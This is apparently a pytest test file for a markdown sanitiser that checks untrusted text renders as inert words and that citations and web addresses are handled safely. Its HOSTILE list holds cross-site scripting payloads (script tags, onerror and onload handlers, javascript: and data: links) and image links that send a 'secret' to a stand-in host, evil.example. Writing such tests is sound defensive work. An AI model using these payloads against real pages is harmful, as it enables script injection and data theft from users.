"""Nothing that a stranger wrote acts on screen. What comes out is read back by an independent parser."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.text.markdown.safe_markdown import markdown_label, safe_markdown, web_address
from core.text.markdown.tokens import LIMIT
from tests.growth import LINEAR, growth, repeated
from tests.text.rendered import links, loads_or_runs, tokens

GFM_LINK = re.compile(
    r"(?:https?://|www(?=\.))[-.\w]+|(?<![\w.+-])[-.\w+]+@[-\w]+(?:\.[-\w]+)+", re.IGNORECASE | re.ASCII
)
SHORTCODE = re.compile(r":[\w+\-/]+:")


def words(text: str) -> str:
    """The literal text, as the viewer's own passes over text nodes see it: one node a line."""
    return "\n".join(token.content for token in tokens(text) if token.type == "text")


def assert_inert(text: str, known: int) -> None:
    assert not loads_or_runs(text)
    assert set(links(text)) <= {f"#src-{number}" for number in range(1, known + 1)}
    assert not GFM_LINK.search(words(text))
    assert not SHORTCODE.search(words(text))
    assert all(token.info == "text" for token in tokens(text) if token.type == "fence")


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>\n\n<iframe srcdoc='x'>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "![pixel][1]\n\n[1]: https://evil.example/p.png",
    "[click](javascript:alert(1)) [data](data:text/html;base64,AAAA)",
    "[1]: https://evil.example\n\nAs shown in [1].",
    "<https://evil.example> https://evil.example/x?y=1 www.evil.example me@evil.example",
    "ww![](x)w.evil.example and ht**tp://evil.example** and htt&#112;://evil.example",
    "w\\ww.evil.example http\\://evil.example http&colon;//evil.example",
    ":smile: :material/delete: :red[stop] :streamlit: :rainbow-background[x]",
    "&#58;smile&#58; \\:smile\\: :sm**i**le:",
    "$x$ $$\\frac{1}{2}$$ \\(x\\)",
    "```mermaid\ngraph TD; A-->B\n```\n\n~~~html\n<script>\n~~~",
    "- [ ] task\n- [x] done\n\n[^1]: note https://evil.example",
    "| a | b |\n|---|---|\n| <b>x</b> | ![p](http://e.example/p) |",
    "> quoted <script>\n> > deeper [x](//evil.example)",
    "text\n===\nmore\n---\n# :material/home:",
    "a\u202eb\u200bc\x00d\ufeff",
    ":::warning\nboo\n:::\n\n::leaf{id=x}",
    "[3](https://evil.example) [3][4] [3]: x",
    "[1](#src-1) [x](#src-1) [x](?run=other)",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_becomes_words(hostile: str) -> None:
    assert_inert(safe_markdown(hostile, range(1, 4)), 3)
    assert_inert(f"**{markdown_label(hostile)}**", 0)


MARKS = st.sampled_from(
    [*"[]()!<>*_`~#|:$\\&@=+->.\n ", "[1]", "](", "http://", "www.", "\n\n", "    ", "&#", "src-1"]
)


@given(st.lists(st.one_of(MARKS, st.text(max_size=4)), max_size=40).map("".join), st.integers(0, 4))
def test_any_text_becomes_words(text: str, known: int) -> None:
    assert_inert(safe_markdown(text, range(1, known + 1)), known)
    assert_inert(markdown_label(text), 0)


def test_form_is_kept() -> None:
    text = "# Head\n\nA **bold** and *soft* word, `code`.\n\n1. one\n2. two\n   - in\n   - side\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |"
    kinds = [token.type for token in tokens(safe_markdown(text)) if token.type.endswith("_open")]
    assert {"heading_open", "strong_open", "em_open", "ordered_list_open", "bullet_list_open"} <= set(kinds)
    assert kinds.count("list_item_open") == 4
    assert {"blockquote_open", "table_open"} <= set(kinds)
    nested = [token.level for token in tokens(safe_markdown(text)) if token.type == "bullet_list_open"]
    assert nested == [2]


def test_outline_of_an_answer_skips_no_level_or_heading_text() -> None:
    text = "#### First\n\n##### Below\n\n#\n\n# Top\n\n#### Deep\n\n## Middle\n\n### Lowest"
    levels = [token.tag for token in tokens(safe_markdown(text)) if token.type == "heading_open"]
    assert levels == ["h3", "h4", "h3", "h4", "h4", "h5"]


def test_citations_are_links_to_sources_that_exist() -> None:
    rendered = safe_markdown("Both [1][3], all [1-3], none [Source 9] 【2】.", range(1, 4))
    assert links(rendered) == [f"#src-{number}" for number in (1, 3, 1, 2, 3, 2)]
    struck = [
        token.content
        for before, token in zip(tokens(rendered), tokens(rendered)[1:], strict=False)
        if before.type == "s_open"
    ]
    assert struck == ["[9]"]


def test_citations_in_words_are_links_as_well() -> None:
    text = "One [Source 1: A title](https://a.example/), two (Sources 2, 3), none [Source 9]."
    rendered = safe_markdown(text, range(1, 4))
    assert links(rendered) == ["#src-1", "#src-2", "#src-3"]
    assert rendered.startswith("One[1](#src-1), two[2](#src-2)[3](#src-3), none ~~")


def test_numbers_in_code_and_in_addresses_are_no_citations() -> None:
    assert (
        links(safe_markdown("`a[1]` `[Source 1]` https://x.example/[1] [4](https://x.example)", range(1, 4)))
        == []
    )


@pytest.mark.parametrize("name", ["writer-8b@127.0.0.1:9612", "llama3.2@gpu.example:11434"])
def test_name_with_an_at_sign_is_no_mail_address(name: str) -> None:
    label = markdown_label(f"written by {name}")
    assert "\u2060@" in label  # no extension for bare links takes what stands before it for a name
    assert label.replace("\u2060", "").replace("\\", "") == f"written by {name}"


def test_an_address_is_shown_as_code() -> None:
    rendered = safe_markdown("See [the site](https://a.example/b) or <https://c.example>.")
    assert [token.content for token in tokens(rendered) if token.type == "code_inline"] == [
        "https://a.example/b",
        "https://c.example",
    ]


@pytest.mark.slow
@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "[](",
        "*a_",
        "> ",
        "`a",
        "<a ",
        "a@",
        "a.",
        "&amp;",
        "[1]",
        "\\[",
        "- ",
        "|a",
        "www.",
        "[a](b)",
        "**a",
        "1. ",
    ],
)
@pytest.mark.thorough
def test_long_runs_of_marks_are_escaped_in_linear_time(unit: str) -> None:
    assert growth(repeated(unit), lambda text: safe_markdown(text, range(1, 4)), LIMIT // 10, LIMIT) < LINEAR
    rendered = safe_markdown(unit * (LIMIT // len(unit)), range(1, 4))
    assert not re.search(r"(\\?\[){30}", rendered)


def test_marks_behind_an_address_are_passed_over_once() -> None:
    address = growth(
        repeated("!?"), lambda marks: safe_markdown(f"http://a{marks}a"), LIMIT // 20, LIMIT // 4
    )
    assert address < LINEAR


def test_blanks_between_nested_list_marks_are_read_once() -> None:
    marks = growth(lambda size: ("-" + " " * size) * 4 + "x", safe_markdown, 60, 240)
    assert marks < LINEAR


def test_a_very_long_text_is_cut_and_says_so() -> None:
    rendered = safe_markdown("word " * LIMIT)
    assert len(rendered) < LIMIT + 200
    assert "longer than 60,000 characters" in rendered


def test_a_very_wide_table_is_narrowed() -> None:
    wide = "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + ("|" + "b|" * 500 + "\n") * 3
    header, *_ = safe_markdown(wide).split("\n")
    assert header.count("a") == 12


@pytest.mark.parametrize("url", ["https://a.example/b?c=d#e", "http://a.example"])
def test_web_addresses_may_be_opened(url: str) -> None:
    assert web_address(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//a.example",
        "https://",
        "https://a.example/\n",
        "ftp://a.example",
        "",
        "https://[",
        "https://a.example\\@b.example",
    ],
)
def test_other_addresses_may_not(url: str) -> None:
    assert web_address(url) == ""
